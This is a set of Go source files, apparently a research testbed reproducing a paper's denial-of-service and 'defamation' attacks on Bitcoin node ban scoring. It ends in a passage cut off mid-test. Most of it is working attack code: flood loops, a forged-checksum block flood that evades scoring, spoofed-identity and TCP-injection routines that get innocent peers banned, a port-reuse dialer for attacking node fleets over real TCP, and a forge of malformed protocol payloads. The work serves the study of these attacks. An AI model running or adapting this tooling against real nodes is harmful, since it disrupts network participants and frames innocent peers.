// with a shared ledger and asserts each peer's forensic chain is
// linearized: per-peer Seq strictly increasing and the carried Score
// totals monotonic — the guarantee that sharding must not have broken.
func TestLedgerSeqPerPeerAcrossShards(t *testing.T) {
	ledger := NewLedger(0, 0)
	tr := NewTracker(Config{Mode: ModeThresholdInfinity, Forensics: ledger})
	const peers = 32
	const hits = 100
	var wg sync.WaitGroup
	ids := make([]PeerID, peers)
	for i := range ids {
		ids[i] = PeerID(fmt.Sprintf("[10.2.0.%d]:8333", i))
		wg.Add(1)
		go func(id PeerID) {
			defer wg.Done()
			for j := 0; j < hits; j++ {
				tr.MisbehavingCtx(id, true, VersionDuplicate, MisbehaviorContext{Command: "version"})
			}
		}(ids[i])
	}
	wg.Wait()
	for _, id := range ids {
		recs := ledger.Records(id)
		if len(recs) != hits {
			t.Fatalf("peer %s: %d records, want %d", id, len(recs), hits)
		}
		for i, rec := range recs {
			if rec.Seq != uint64(i+1) {
				t.Fatalf("peer %s record %d: seq %d, want %d", id, i, rec.Seq, i+1)
			}
			if rec.Score != (i+1)*rec.Delta {
				t.Fatalf("peer %s record %d: score %d not linearized (delta %d)", id, i, rec.Score, rec.Delta)
			}
		}
	}
}

// TestBanListConcurrentMutation exercises IsBanned's RLock fast path while
// bans, unbans, and expiries churn the same shards.
func TestBanListConcurrentMutation(t *testing.T) {
	var mu sync.Mutex
	now := time.Now()
	clock := func() time.Time {
		mu.Lock()
		defer mu.Unlock()
		return now
	}
	bl := NewBanList(clock)
	ids := make([]PeerID, 64)
	for i := range ids {
		ids[i] = PeerID(fmt.Sprintf("[10.3.0.%d]:8333", i))
	}
	var wg sync.WaitGroup
	stop := make(chan struct{})
	for g := 0; g < 8; g++ {
		wg.Add(1)
		go func(seed int) {
			defer wg.Done()
			for i := 0; ; i++ {
				select {
				case <-stop:
					return
				default:
				}
				id := ids[(seed*31+i)&63]
				switch i % 4 {
				case 0:
					bl.Ban(id, time.Minute)
				case 1:
					bl.IsBanned(id)
				case 2:
					bl.Unban(id)
				default:
					bl.Count()
				}
			}
		}(g)
	}
	time.Sleep(50 * time.Millisecond)
	close(stop)
	wg.Wait()

	// Expiry pruning still works after the churn: ban everyone, advance the
	// clock past the duration, and watch IsBanned prune on the read path.
	for _, id := range ids {
		bl.Ban(id, time.Minute)
	}
	mu.Lock()
	now = now.Add(2 * time.Minute)
	mu.Unlock()
	for _, id := range ids {
		if bl.IsBanned(id) {
			t.Fatalf("peer %s still banned after expiry", id)
		}
	}
	if got := bl.Count(); got != 0 {
		t.Fatalf("count %d after full expiry", got)
	}
}
