package attack

import (
	"time"

	"banscore/internal/wire"
)

// FloodResult summarizes one flooding run.
type FloodResult struct {
	// Sent is the number of messages written before stop or error.
	Sent uint64

	// Elapsed wall-clock time of the run.
	Elapsed time.Duration

	// Err is the terminating error, nil when the run completed its
	// duration/count budget. A write error usually means the victim
	// banned and dropped the connection.
	Err error
}

// Rate returns the achieved send rate in messages per second.
func (r FloodResult) Rate() float64 {
	if r.Elapsed <= 0 {
		return 0
	}
	return float64(r.Sent) / r.Elapsed.Seconds()
}

// FloodOptions parameterize a flood.
type FloodOptions struct {
	// Count of messages to send; 0 means unbounded (use Duration).
	Count uint64

	// Duration budget; 0 means unbounded (use Count).
	Duration time.Duration

	// Delay between consecutive messages; 0 floods as fast as possible
	// (the paper's "no interval/delay" configuration).
	Delay time.Duration

	// Burst, when > 1, applies Delay only after every Burst-th message —
	// a sender that dumps a socket buffer's worth of traffic and then
	// pauses. This expresses duty cycles finer than the OS sleep
	// granularity allows with a per-message Delay.
	Burst uint64

	// Stop, when non-nil, aborts the flood when closed.
	Stop <-chan struct{}
}

// pause sleeps o.Delay if the flood owes a pause after its sent-th message.
func (o FloodOptions) pause(sent uint64) {
	if o.Delay <= 0 {
		return
	}
	if o.Burst > 1 && sent%o.Burst != 0 {
		return
	}
	clk.Sleep(o.Delay)
}

// Flood repeatedly sends messages produced by next over the session. It
// models the paper's BM-DoS sender: a tight loop with an optional
// inter-message delay.
func Flood(s *Session, next func() wire.Message, opts FloodOptions) FloodResult {
	start := clk.Now()
	var res FloodResult
	deadline := time.Time{}
	if opts.Duration > 0 {
		deadline = start.Add(opts.Duration)
	}
	for {
		if opts.Count > 0 && res.Sent >= opts.Count {
			break
		}
		if !deadline.IsZero() && clk.Now().After(deadline) {
			break
		}
		if opts.Stop != nil {
			select {
			case <-opts.Stop:
				res.Elapsed = clk.Since(start)
				return res
			default:
			}
		}
		if err := s.Send(next()); err != nil {
			res.Err = err
			break
		}
		res.Sent++
		opts.pause(res.Sent)
	}
	res.Elapsed = clk.Since(start)
	return res
}

// FloodRaw is Flood for pre-encoded payloads with corrupt checksums — the
// bogus-BLOCK flood that bypasses misbehavior tracking entirely. The forged
// checksum is computed once: the attacker's per-message cost is framing
// only, which is what makes the attack so cheap on the sender side.
func FloodRaw(s *Session, command string, payload []byte, opts FloodOptions) FloodResult {
	checksum := bogusChecksumFor(payload)
	start := clk.Now()
	var res FloodResult
	deadline := time.Time{}
	if opts.Duration > 0 {
		deadline = start.Add(opts.Duration)
	}
	for {
		if opts.Count > 0 && res.Sent >= opts.Count {
			break
		}
		if !deadline.IsZero() && clk.Now().After(deadline) {
			break
		}
		if opts.Stop != nil {
			select {
			case <-opts.Stop:
				res.Elapsed = clk.Since(start)
				return res
			default:
			}
		}
		if err := s.sendRawChecksum(command, payload, checksum); err != nil {
			res.Err = err
			break
		}
		res.Sent++
		opts.pause(res.Sent)
	}
	res.Elapsed = clk.Since(start)
	return res
}
