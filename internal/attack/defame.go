package attack

import (
	"bytes"
	"errors"
	"fmt"
	"net"
	"time"

	"banscore/internal/simnet"
	"banscore/internal/wire"
)

// DefamationResult summarizes a Defamation run against one innocent
// identifier.
type DefamationResult struct {
	// Innocent identifier that was defamed.
	Innocent string
	// MessagesSent (or injected) before the ban took effect.
	MessagesSent uint64
	// Elapsed from first misbehaving message until the ban.
	Elapsed time.Duration
}

// PreConnectionDefame executes the paper's pre-connection Defamation: the
// attacker spoofs the innocent identifier BEFORE the innocent connects,
// opens a session as them, and sends misbehaving VERSION messages until the
// target bans the identifier (detected by connection loss). delay is the
// inter-message delay (Fig. 8: 0 vs 1 ms).
func PreConnectionDefame(dial Dialer, innocent, target string, magic wire.BitcoinNet, delay time.Duration) (DefamationResult, error) {
	res := DefamationResult{Innocent: innocent}
	conn, err := dial(innocent, target)
	if err != nil {
		return res, fmt.Errorf("spoofed dial as %s: %w", innocent, err)
	}
	s := NewSession(conn, magic)
	defer s.Close()
	if err := s.Handshake(5 * time.Second); err != nil {
		return res, err
	}

	start := clk.Now()
	for {
		if err := s.Send(s.Version()); err != nil {
			break // the identifier is banned and the connection dropped
		}
		res.MessagesSent++
		if delay > 0 {
			clk.Sleep(delay)
		}
	}
	res.Elapsed = clk.Since(start)
	return res, nil
}

// PostConnectionDefamer implements Algorithm 1: defame an innocent peer
// that already holds a live connection to the target, by eavesdropping on
// the stream state and injecting spoofed misbehaving messages into it.
type PostConnectionDefamer struct {
	fabric  *simnet.Network
	sniffer *simnet.Sniffer
	magic   wire.BitcoinNet

	innocent string
	target   string
}

// NewPostConnectionDefamer arms the attack. The sniffer must have observed
// the innocent→target stream from its beginning (same-network promiscuous
// capture), mirroring the paper's requirement of knowing the 4-tuple and
// real-time TCP state.
func NewPostConnectionDefamer(fabric *simnet.Network, innocent, target string, magic wire.BitcoinNet) *PostConnectionDefamer {
	sniffer := fabric.NewSniffer(func(from, to simnet.Addr) bool {
		return string(from) == innocent && string(to) == target
	})
	return &PostConnectionDefamer{
		fabric:   fabric,
		sniffer:  sniffer,
		magic:    magic,
		innocent: innocent,
		target:   target,
	}
}

// Close detaches the sniffer.
func (d *PostConnectionDefamer) Close() { d.sniffer.Close() }

// frameVersion builds the spoofed misbehaving message: a duplicate VERSION
// framed with correct checksum, which scores +1 per delivery at the target.
func (d *PostConnectionDefamer) frameVersion(n uint64) []byte {
	me := wire.NewNetAddressIPPort(net.IPv4zero, 0, wire.SFNodeNetwork)
	you := wire.NewNetAddressIPPort(net.IPv4zero, 0, 0)
	v := wire.NewMsgVersion(me, you, n, 0)
	v.Timestamp = time.Unix(1700000000, 0)
	var buf bytes.Buffer
	_, _ = wire.WriteMessage(&buf, v, wire.ProtocolVersion, d.magic)
	return buf.Bytes()
}

// Run injects count spoofed messages per Algorithm 1:
//
//	while eavesdropping: learn seq → craft → inject → target scores innocent.
//
// It returns once the target has dropped the innocent's connection (the
// injection point disappears) or count messages are in.
func (d *PostConnectionDefamer) Run(count int, delay time.Duration) (DefamationResult, error) {
	res := DefamationResult{Innocent: d.innocent}
	start := clk.Now()
	for i := 0; i < count; i++ {
		frame := d.frameVersion(uint64(i))
		// Step 3 of Algorithm 1: learn the current stream state.
		seq := d.sniffer.NextSeq(d.innocent, d.target)
		// Steps 4-5: craft with the expected seq and inject.
		err := d.fabric.Inject(d.innocent, d.target, seq, frame)
		if err != nil {
			if errors.Is(err, simnet.ErrSeqMismatch) {
				// Raced with legitimate traffic: re-learn and retry.
				i--
				continue
			}
			if errors.Is(err, simnet.ErrConnNotFound) {
				// The target banned the innocent peer and tore the
				// connection down: the attack has succeeded.
				res.Elapsed = clk.Since(start)
				return res, nil
			}
			res.Elapsed = clk.Since(start)
			return res, err
		}
		res.MessagesSent++
		if delay > 0 {
			clk.Sleep(delay)
		}
	}
	res.Elapsed = clk.Since(start)
	return res, nil
}
