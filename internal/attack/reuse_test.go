package attack

import (
	"net"
	"sync"
	"testing"
	"time"
)

// TestReuseDialerSharedLocalPort proves the fleet-identity property: two
// concurrent connections to two distinct listeners bound to the SAME local
// [IP:port], so both accepting sides attribute the traffic to one
// identifier.
func TestReuseDialerSharedLocalPort(t *testing.T) {
	l1, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer l1.Close()
	l2, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer l2.Close()

	seen := make(chan string, 2)
	var wg sync.WaitGroup
	for _, l := range []net.Listener{l1, l2} {
		wg.Add(1)
		go func(l net.Listener) {
			defer wg.Done()
			conn, err := l.Accept()
			if err != nil {
				return
			}
			seen <- conn.RemoteAddr().String()
			conn.Close()
		}(l)
	}

	c1, err := ReuseDialer(&net.TCPAddr{IP: net.IPv4(127, 0, 0, 1)}, time.Second).Dial("tcp", l1.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	defer c1.Close()
	laddr := c1.LocalAddr().(*net.TCPAddr)

	c2, err := ReuseDialer(laddr, time.Second).Dial("tcp", l2.Addr().String())
	if err != nil {
		t.Fatalf("second dial from %s: %v (SO_REUSEPORT not honored?)", laddr, err)
	}
	defer c2.Close()

	if got := c2.LocalAddr().String(); got != laddr.String() {
		t.Fatalf("second connection local addr = %s, want %s", got, laddr)
	}
	wg.Wait()
	close(seen)
	for remote := range seen {
		if remote != laddr.String() {
			t.Errorf("listener saw remote %s, want the shared identity %s", remote, laddr)
		}
	}
}
