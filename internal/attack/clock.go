package attack

import (
	"sync"

	"banscore/internal/vclock"
)

// clk is the attacker toolkit's single time source. Flood pacing,
// time-to-ban measurement, and handshake deadlines read it instead of
// package time so the banlint wallclock analyzer can prove the attack
// drivers' only wall-clock dependence is this injectable seam; the
// experiments fake it to replay attack schedules deterministically. The
// two inherent wall-clock reads — the VERSION nonce and the socket read
// deadline, both meaningless under a virtual clock — carry explicit
// waivers in session.go.
var clk = vclock.System()

// SetClock replaces the package clock and returns the previous one.
// Intended for tests; not safe to call while an attack is running.
func SetClock(c vclock.Clock) vclock.Clock {
	old := clk
	clk = c
	return old
}

// spawn runs f on a goroutine registered with wg — the supervised form
// the gospawn analyzer requires in this package. Every attacker fan-out
// (parallel Sybil sessions, fleet dials, fleet floods) joins its
// WaitGroup before returning, so no attack goroutine outlives its driver.
func spawn(wg *sync.WaitGroup, f func()) {
	wg.Add(1)
	go func() {
		defer wg.Done()
		f()
	}()
}
