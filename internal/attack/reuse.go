package attack

import (
	"fmt"
	"net"
	"runtime"
	"sync"
	"syscall"
	"time"

	"banscore/internal/wire"
)

// soReusePort returns the platform's SO_REUSEPORT socket option number, or 0
// where the option is unknown. The Linux value (15) is absent from the
// syscall package, so it is spelled out here.
func soReusePort() int {
	switch runtime.GOOS {
	case "linux":
		return 0xf
	case "darwin", "freebsd", "openbsd", "netbsd", "dragonfly":
		return 0x200
	}
	return 0
}

// ReuseDialer returns a net.Dialer bound to laddr with SO_REUSEADDR and
// SO_REUSEPORT set before bind. Ban tracking is [IP:port]-granular, so an
// attacker that wants a fleet of victims to agree on WHICH identifier
// misbehaved must present the same local port to every one of them — one
// port, N concurrent connections to N distinct remotes. A plain dialer
// cannot do that (the second bind to a busy local port fails); with
// SO_REUSEPORT each connection is a distinct 4-tuple and the kernel allows
// the shared bind.
func ReuseDialer(laddr *net.TCPAddr, timeout time.Duration) *net.Dialer {
	return &net.Dialer{
		Timeout:   timeout,
		LocalAddr: laddr,
		Control: func(network, address string, c syscall.RawConn) error {
			opt := soReusePort()
			var serr error
			if err := c.Control(func(fd uintptr) {
				serr = syscall.SetsockoptInt(int(fd), syscall.SOL_SOCKET, syscall.SO_REUSEADDR, 1)
				if serr == nil && opt != 0 {
					serr = syscall.SetsockoptInt(int(fd), syscall.SOL_SOCKET, opt, 1)
				}
			}); err != nil {
				return err
			}
			return serr
		},
	}
}

// FleetIdentity is one attacker identity holding live sessions to every
// node of a fleet, all bound to the same local [IP:port] so each victim
// attributes the misbehavior to the same identifier.
type FleetIdentity struct {
	// Local is the shared [IP:port] identifier every victim sees.
	Local string
	// Sessions holds one handshaken session per target, in target order.
	Sessions []*Session
}

// DialFleet connects one identity to every target and completes the version
// handshake on each session. The first dial lets the kernel pick the local
// port; the remaining targets are dialed concurrently from that same port.
// All dials and handshakes must succeed — a partially connected identity
// would skew propagation measurements — so any failure closes everything
// and errors out.
func DialFleet(localIP string, targets []string, magic wire.BitcoinNet, timeout time.Duration) (*FleetIdentity, error) {
	if len(targets) == 0 {
		return nil, fmt.Errorf("attack: DialFleet with no targets")
	}
	ip := net.ParseIP(localIP)
	if ip == nil {
		return nil, fmt.Errorf("attack: bad local IP %q", localIP)
	}
	first, err := ReuseDialer(&net.TCPAddr{IP: ip}, timeout).Dial("tcp", targets[0])
	if err != nil {
		return nil, fmt.Errorf("fleet dial %s: %w", targets[0], err)
	}
	laddr := first.LocalAddr().(*net.TCPAddr)

	fi := &FleetIdentity{
		Local:    laddr.String(),
		Sessions: make([]*Session, len(targets)),
	}
	fi.Sessions[0] = NewSession(first, magic)

	// The rest share the now-fixed local port. Dial concurrently: each is a
	// distinct 4-tuple, and serializing would stretch the window in which
	// the identity exists on some victims but not others.
	errs := make([]error, len(targets))
	var wg sync.WaitGroup
	for i := 1; i < len(targets); i++ {
		i := i
		spawn(&wg, func() {
			conn, err := ReuseDialer(laddr, timeout).Dial("tcp", targets[i])
			if err != nil {
				errs[i] = fmt.Errorf("fleet dial %s from %s: %w", targets[i], laddr, err)
				return
			}
			fi.Sessions[i] = NewSession(conn, magic)
		})
	}
	wg.Wait()
	for _, err := range errs {
		if err != nil {
			fi.Close()
			return nil, err
		}
	}

	for i, s := range fi.Sessions {
		i, s := i, s
		spawn(&wg, func() {
			if err := s.Handshake(timeout); err != nil {
				errs[i] = fmt.Errorf("fleet handshake %s: %w", targets[i], err)
			}
		})
	}
	wg.Wait()
	for _, err := range errs {
		if err != nil {
			fi.Close()
			return nil, err
		}
	}
	return fi, nil
}

// FleetFloodResult is one victim's view of a FloodAll run.
type FleetFloodResult struct {
	// Target the session was attacking.
	Target string
	// MessagesSent before the victim cut the connection (or maxMsgs hit).
	MessagesSent uint64
	// Elapsed from first attack message until the send loop ended.
	Elapsed time.Duration
	// Banned is true when the loop ended on a send error — the victim
	// dropped the connection — rather than the message cap.
	Banned bool
}

// FloodAll drives next() into every session concurrently until each victim
// drops the connection (the ban signal) or maxMsgs is reached, and reports
// per-victim counts and timings. delay is the inter-message delay (Fig. 8:
// 0 vs 1 ms). Sessions are closed on return; the identity is spent.
func (fi *FleetIdentity) FloodAll(targets []string, next func() wire.Message, delay time.Duration, maxMsgs int) []FleetFloodResult {
	results := make([]FleetFloodResult, len(fi.Sessions))
	var wg sync.WaitGroup
	for i, s := range fi.Sessions {
		i, s := i, s
		spawn(&wg, func() {
			defer s.Close()
			res := FleetFloodResult{Target: targets[i]}
			start := clk.Now()
			for maxMsgs <= 0 || res.MessagesSent < uint64(maxMsgs) {
				if err := s.Send(next()); err != nil {
					res.Banned = true
					break
				}
				res.MessagesSent++
				if delay > 0 {
					clk.Sleep(delay)
				}
			}
			res.Elapsed = clk.Since(start)
			results[i] = res
		})
	}
	wg.Wait()
	return results
}

// Close tears down every open session.
func (fi *FleetIdentity) Close() {
	for _, s := range fi.Sessions {
		if s != nil {
			s.Close()
		}
	}
}

// VersionFlood returns a duplicate-VERSION message factory — the Fig. 8
// Defamation payload (+1 misbehavior per delivery, ban at 100). Safe for
// concurrent use: the message value is immutable once built.
func VersionFlood() func() wire.Message {
	me := wire.NewNetAddressIPPort(nil, 0, wire.SFNodeNetwork)
	you := wire.NewNetAddressIPPort(nil, 0, 0)
	return func() wire.Message {
		return wire.NewMsgVersion(me, you, 1, 0)
	}
}
