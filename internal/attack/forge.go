package attack

import (
	"bytes"
	"net"
	"sync/atomic"
	"time"

	"banscore/internal/blockchain"
	"banscore/internal/chainhash"
	"banscore/internal/wire"
)

// Forge crafts the attack payloads of the paper's vectors. All methods are
// deterministic given the seed state so experiments are reproducible, and
// safe to share across flood goroutines (the sequence is atomic).
type Forge struct {
	params *blockchain.Params
	seq    atomic.Uint64
}

// NewForge returns a Forge for the given chain parameters.
func NewForge(params *blockchain.Params) *Forge {
	return &Forge{params: params}
}

func (f *Forge) nextSeq() uint64 {
	return f.seq.Add(1)
}

// hash produces a deterministic unique hash.
func (f *Forge) hash() chainhash.Hash {
	n := f.nextSeq()
	return chainhash.DoubleHashH([]byte{
		byte(n), byte(n >> 8), byte(n >> 16), byte(n >> 24),
		byte(n >> 32), byte(n >> 40), byte(n >> 48), byte(n >> 56),
	})
}

// BogusBlock builds a BLOCK whose previous block is unknown and whose proof
// of work is unsolved: the application layer (if reached) rejects it with
// maximum validation cost. Paired with a corrupt checksum it becomes the
// paper's headline BM-DoS payload.
func (f *Forge) BogusBlock(txCount int) *wire.MsgBlock {
	prev := f.hash()
	txs := make([]*wire.MsgTx, 0, txCount)
	for i := 0; i < txCount; i++ {
		txs = append(txs, f.ValidTx())
	}
	return blockchain.BuildBlock(f.params, prev, 1, f.nextSeq(), time.Unix(1700000000, 0), txs)
}

// EncodeBlock serializes a block payload for SendRaw/SendBogusChecksum.
func EncodeBlock(block *wire.MsgBlock) []byte {
	var buf bytes.Buffer
	_ = block.BtcEncode(&buf, wire.ProtocolVersion)
	return buf.Bytes()
}

// ValidTx builds a structurally valid transaction with a unique input.
func (f *Forge) ValidTx() *wire.MsgTx {
	tx := wire.NewMsgTx(wire.TxVersion)
	prev := f.hash()
	tx.AddTxIn(wire.NewTxIn(wire.NewOutPoint(&prev, 0), []byte{0x51}, nil))
	tx.AddTxOut(wire.NewTxOut(1000, []byte{0x51}))
	return tx
}

// InvalidSegWitTx builds a transaction violating the SegWit consensus rules
// (witness alongside a signature script) — Table I scores it 100.
func (f *Forge) InvalidSegWitTx() *wire.MsgTx {
	tx := f.ValidTx()
	tx.TxIn[0].Witness = wire.TxWitness{[]byte{0x01}}
	return tx
}

// OversizeAddr builds an ADDR with MaxAddrPerMsg+1 entries (+20).
func (f *Forge) OversizeAddr() *wire.MsgAddr {
	m := wire.NewMsgAddr()
	na := wire.NewNetAddressIPPort(net.IPv4(198, 51, 100, 1), 8333, 0)
	na.Timestamp = time.Unix(1700000000, 0)
	for i := 0; i < wire.MaxAddrPerMsg+1; i++ {
		m.AddAddress(na)
	}
	return m
}

// OversizeInv builds an INV with MaxInvPerMsg+1 entries (+20).
func (f *Forge) OversizeInv() *wire.MsgInv {
	m := wire.NewMsgInv()
	h := f.hash()
	iv := wire.NewInvVect(wire.InvTypeTx, &h)
	for i := 0; i < wire.MaxInvPerMsg+1; i++ {
		m.AddInvVect(iv)
	}
	return m
}

// OversizeGetData builds a GETDATA with MaxInvPerMsg+1 entries (+20).
func (f *Forge) OversizeGetData() *wire.MsgGetData {
	m := wire.NewMsgGetData()
	h := f.hash()
	iv := wire.NewInvVect(wire.InvTypeTx, &h)
	for i := 0; i < wire.MaxInvPerMsg+1; i++ {
		m.AddInvVect(iv)
	}
	return m
}

// OversizeHeaders builds a HEADERS with MaxBlockHeadersPerMsg+1 entries (+20).
func (f *Forge) OversizeHeaders() *wire.MsgHeaders {
	m := wire.NewMsgHeaders()
	hdr := &wire.BlockHeader{Timestamp: time.Unix(1700000000, 0)}
	for i := 0; i < wire.MaxBlockHeadersPerMsg+1; i++ {
		m.AddBlockHeader(hdr)
	}
	return m
}

// NonContinuousHeaders builds a discontinuous HEADERS sequence (+20).
func (f *Forge) NonContinuousHeaders() *wire.MsgHeaders {
	m := wire.NewMsgHeaders()
	h1 := &wire.BlockHeader{Nonce: 1, Timestamp: time.Unix(1700000000, 0)}
	h2 := &wire.BlockHeader{Nonce: 2, PrevBlock: f.hash(), Timestamp: time.Unix(1700000000, 0)}
	m.AddBlockHeader(h1)
	m.AddBlockHeader(h2)
	return m
}

// NonConnectingHeaders builds a single orphan-header HEADERS message; ten
// deliveries trigger the +20 rule.
func (f *Forge) NonConnectingHeaders() *wire.MsgHeaders {
	m := wire.NewMsgHeaders()
	m.AddBlockHeader(&wire.BlockHeader{PrevBlock: f.hash(), Timestamp: time.Unix(1700000000, 0)})
	return m
}

// OversizeFilterLoad builds a FILTERLOAD above 36000 bytes (+100).
func (f *Forge) OversizeFilterLoad() *wire.MsgFilterLoad {
	return wire.NewMsgFilterLoad(make([]byte, wire.MaxFilterLoadFilterSize+1), 1, 0, wire.BloomUpdateNone)
}

// OversizeFilterAdd builds a FILTERADD above 520 bytes (+100).
func (f *Forge) OversizeFilterAdd() *wire.MsgFilterAdd {
	return wire.NewMsgFilterAdd(make([]byte, wire.MaxFilterAddDataSize+1))
}

// InvalidCmpctBlock builds a CMPCTBLOCK with an unsolvable header (+100 at
// meaningful difficulty).
func (f *Forge) InvalidCmpctBlock() *wire.MsgCmpctBlock {
	header := &wire.BlockHeader{
		Version:   1,
		PrevBlock: f.hash(),
		Timestamp: time.Unix(1700000000, 0),
		Bits:      0x01010000, // absurd target: no hash satisfies it
	}
	cb := wire.NewMsgCmpctBlock(header)
	cb.ShortIDs = []uint64{1, 2, 3}
	return cb
}

// OutOfBoundsGetBlockTxn builds a GETBLOCKTXN whose index exceeds any real
// block (+100).
func (f *Forge) OutOfBoundsGetBlockTxn(blockHash chainhash.Hash) *wire.MsgGetBlockTxn {
	return wire.NewMsgGetBlockTxn(&blockHash, []uint32{1 << 20})
}

// Ping builds the score-free flooding message of BM-DoS vector 1.
func (f *Forge) Ping() *wire.MsgPing { return wire.NewMsgPing(f.nextSeq()) }
