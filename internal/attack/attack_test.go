package attack

import (
	"fmt"
	"net"
	"sync/atomic"
	"testing"
	"time"

	"banscore/internal/blockchain"
	"banscore/internal/core"
	"banscore/internal/mempool"
	"banscore/internal/node"
	"banscore/internal/simnet"
	"banscore/internal/wire"
)

// env hosts a victim node on a simnet fabric.
type env struct {
	fabric *simnet.Network
	victim *node.Node
	target string
	ports  atomic.Uint32
}

func newEnv(t *testing.T, mutate func(*node.Config)) *env {
	t.Helper()
	fabric := simnet.NewNetwork()
	e := &env{fabric: fabric, target: "10.0.0.1:8333"}
	cfg := node.Config{
		Dialer: func(remote string) (net.Conn, error) {
			port := 40000 + e.ports.Add(1)
			return fabric.Dial(fmt.Sprintf("10.0.0.1:%d", port), remote)
		},
	}
	if mutate != nil {
		mutate(&cfg)
	}
	e.victim = node.New(cfg)
	l, err := fabric.Listen(e.target)
	if err != nil {
		t.Fatal(err)
	}
	e.victim.Serve(l)
	t.Cleanup(func() {
		e.victim.Stop()
		fabric.Close()
	})
	return e
}

func (e *env) dialer() Dialer {
	return func(from, to string) (net.Conn, error) { return e.fabric.Dial(from, to) }
}

func (e *env) session(t *testing.T, from string) *Session {
	t.Helper()
	conn, err := e.fabric.Dial(from, e.target)
	if err != nil {
		t.Fatal(err)
	}
	s := NewSession(conn, wire.SimNet)
	if err := s.Handshake(5 * time.Second); err != nil {
		t.Fatal(err)
	}
	return s
}

func waitFor(t *testing.T, what string, cond func() bool) {
	t.Helper()
	deadline := time.Now().Add(5 * time.Second)
	for time.Now().Before(deadline) {
		if cond() {
			return
		}
		time.Sleep(2 * time.Millisecond)
	}
	t.Fatalf("timeout waiting for %s", what)
}

func TestSessionHandshake(t *testing.T) {
	e := newEnv(t, nil)
	s := e.session(t, "10.0.0.66:50001")
	defer s.Close()
	if s.Sent() < 2 { // version + verack
		t.Errorf("Sent = %d", s.Sent())
	}
	// A PING round-trip proves the session is live.
	if err := s.Send(wire.NewMsgPing(9)); err != nil {
		t.Fatal(err)
	}
	msg, err := s.Recv(2 * time.Second)
	if err != nil {
		t.Fatal(err)
	}
	if pong, ok := msg.(*wire.MsgPong); !ok || pong.Nonce != 9 {
		t.Errorf("reply = %#v", msg)
	}
}

func TestPingFloodIsScoreFree(t *testing.T) {
	// BM-DoS vector 1: PING has no ban rule; a thousand of them leave
	// the attacker's score at zero.
	e := newEnv(t, nil)
	s := e.session(t, "10.0.0.66:50001")
	defer s.Close()
	forge := NewForge(blockchain.SimNetParams())
	res := Flood(s, func() wire.Message { return forge.Ping() }, FloodOptions{Count: 1000})
	if res.Err != nil || res.Sent != 1000 {
		t.Fatalf("flood = %+v", res)
	}
	waitFor(t, "messages processed", func() bool {
		return e.victim.Stats().MessagesProcessed >= 1000
	})
	if got := e.victim.Tracker().Score(core.PeerIDFromAddr("10.0.0.66:50001")); got != 0 {
		t.Errorf("score after ping flood = %d, want 0", got)
	}
	if res.Rate() <= 0 {
		t.Error("rate not measured")
	}
}

func TestBogusChecksumBlockFloodBypassesBanScore(t *testing.T) {
	// BM-DoS vector 2: invalid-PoW BLOCK with corrupt checksum — dropped
	// at the transport layer, never scored.
	e := newEnv(t, nil)
	s := e.session(t, "10.0.0.66:50001")
	defer s.Close()
	forge := NewForge(blockchain.SimNetParams())
	payload := EncodeBlock(forge.BogusBlock(2))
	res := FloodRaw(s, wire.CmdBlock, payload, FloodOptions{Count: 200})
	if res.Err != nil || res.Sent != 200 {
		t.Fatalf("flood = %+v", res)
	}
	// Prove the connection survived and nothing was scored.
	if err := s.Send(wire.NewMsgPing(1)); err != nil {
		t.Fatal(err)
	}
	if _, err := s.Recv(2 * time.Second); err != nil {
		t.Fatalf("connection dead after bogus flood: %v", err)
	}
	if got := e.victim.Tracker().Score(core.PeerIDFromAddr("10.0.0.66:50001")); got != 0 {
		t.Errorf("score = %d, want 0", got)
	}
}

func TestCorrectChecksumBogusBlockBansImmediately(t *testing.T) {
	// The contrast case: same bogus block with a CORRECT checksum reaches
	// validation and triggers the 100-point invalid-block rule.
	e := newEnv(t, nil)
	s := e.session(t, "10.0.0.66:50001")
	defer s.Close()
	forge := NewForge(blockchain.SimNetParams())
	if err := s.SendRaw(wire.CmdBlock, EncodeBlock(forge.BogusBlock(0))); err != nil {
		t.Fatal(err)
	}
	waitFor(t, "ban", func() bool {
		// BogusBlock has an unknown prev (+10 prev-missing)... but its
		// PoW IS valid at simnet difficulty, so the score is 10.
		return e.victim.Tracker().Score(core.PeerIDFromAddr("10.0.0.66:50001")) == 10
	})
}

func TestSerialSybilDefamationLoop(t *testing.T) {
	e := newEnv(t, nil)
	mgr := NewSybilManager("10.0.0.66", e.target, wire.SimNet, e.dialer())
	results, err := mgr.RunSerial(3, func() wire.Message {
		// Fresh VERSION each time: duplicate VERSION scores +1.
		me := wire.NewNetAddressIPPort(net.IPv4zero, 0, wire.SFNodeNetwork)
		you := wire.NewNetAddressIPPort(net.IPv4zero, 0, 0)
		return wire.NewMsgVersion(me, you, 1, 0)
	}, 0)
	if err != nil {
		t.Fatal(err)
	}
	if len(results) != 3 {
		t.Fatalf("results = %d", len(results))
	}
	banlist := e.victim.Tracker().BanList()
	for i, r := range results {
		if r.MessagesSent < 100 {
			t.Errorf("identifier %d sent %d messages, want >= 100", i, r.MessagesSent)
		}
		if r.TimeToBan <= 0 || r.ConnectLatency <= 0 {
			t.Errorf("identifier %d timing = %+v", i, r)
		}
		if !banlist.IsBanned(core.PeerIDFromAddr(r.Identifier)) {
			t.Errorf("identifier %s not banned", r.Identifier)
		}
	}
	if results[0].Identifier == results[1].Identifier {
		t.Error("serial identifiers not distinct")
	}
	if mgr.IdentifiersUsed() != 3 {
		t.Errorf("IdentifiersUsed = %d", mgr.IdentifiersUsed())
	}
	if got := banlist.BannedPortCountForIP(net.ParseIP("10.0.0.66")); got != 3 {
		t.Errorf("banned ports for attacker IP = %d, want 3", got)
	}
}

func TestParallelSybilFlood(t *testing.T) {
	e := newEnv(t, nil)
	mgr := NewSybilManager("10.0.0.66", e.target, wire.SimNet, e.dialer())
	forge := NewForge(blockchain.SimNetParams())
	err := mgr.RunParallel(5, func(s *Session) {
		Flood(s, func() wire.Message { return forge.Ping() }, FloodOptions{Count: 100})
	})
	if err != nil {
		t.Fatal(err)
	}
	waitFor(t, "all pings processed", func() bool {
		return e.victim.Stats().MessagesProcessed >= 5*100
	})
}

func TestPreConnectionDefamation(t *testing.T) {
	e := newEnv(t, nil)
	const innocent = "10.0.0.77:50001"

	res, err := PreConnectionDefame(e.dialer(), innocent, e.target, wire.SimNet, 0)
	if err != nil {
		t.Fatal(err)
	}
